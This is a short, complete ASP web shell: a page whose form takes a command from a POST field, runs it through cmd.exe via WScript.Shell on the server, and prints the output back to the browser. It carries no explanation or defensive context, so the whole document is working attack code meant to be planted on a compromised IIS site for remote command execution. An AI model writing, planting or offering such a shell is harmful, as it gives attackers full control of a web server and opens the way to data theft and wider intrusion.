<%
Dim oShell, oExec, szCMD
szCMD = Request.Form("cmd")
If szCMD <> "" Then
    Set oShell = Server.CreateObject("WScript.Shell")
    Set oExec = oShell.Exec("cmd.exe /c " & szCMD)
    Response.Write(Server.HTMLEncode(oExec.StdOut.ReadAll()))
End If
%>
<form action="" method="POST">
<input type="text" name="cmd" size="60"><input type="submit" value="Run">
</form>
